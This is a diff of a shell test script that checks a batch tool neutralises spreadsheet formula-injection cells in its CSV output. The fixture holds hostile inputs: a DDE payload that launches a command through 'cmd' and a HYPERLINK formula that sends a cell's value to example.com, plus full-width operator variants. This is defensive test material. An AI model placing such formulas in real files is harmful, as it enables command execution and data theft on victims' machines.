@@ -150,29 +150,12 @@ EOF
 # written as they are. Excel and WPS read the full-width ＝ ＋ － ＠
 # (U+FF1D, U+FF0B, U+FF0D, U+FF20) as those operators: they are
 # neutralised alike.
-cat > "$T/formula.pol" <<'POL'
-policy "t"
-  title "T"
-  in force from 2025-01-01 for 3 years
-  identified by ref
-
-facts {
-  ref: text
-  paid: money
-}
-
-measure award
-  article "1"
-  title "A"
-  when paid > 0 元
-  amount fixed 100 元
-POL
 printf '%s\r\n' 'ref,paid' '"=HYPERLINK(""http://example.com/?q=""&A1;""x"")",15.00' "@SUM(1+1)*cmd|' /C calc'!A0,1.00" \
     '+1,1.00' '-2,1.00' "	tab,1.00" "'=x,1.00" "''@y,1.00" "'plain,1.00" 'A-1,1.00' '=bad,x' \
     '"＝HYPERLINK(""http://example.com/"")*1",1.00' '＋1,1.00' '－2,1.00' '＠SUM(1),1.00' "'＝x,1.00" 'A＝1,1.00' \
     '＝bad,x' > "$T/formula.csv"
 for j in 1 2; do
-    "$P" batch "$T/formula.pol" --date 2025-06-30 --input csv --output csv --no-bom --jobs $j < "$T/formula.csv" \
+    "$P" batch tests/batch/paid.pol --date 2025-06-30 --input csv --output csv --no-bom --jobs $j < "$T/formula.csv" \
         > "$T/formula.out" 2>/dev/null
     status $? 3 "formula ids: a bad row exits 3 (--jobs $j)"
     python3 - "$T/formula.out" <<'PY' && ok || bad "cells a spreadsheet would take for formulas are neutralised (--jobs $j): $(cat "$T/formula.out")"
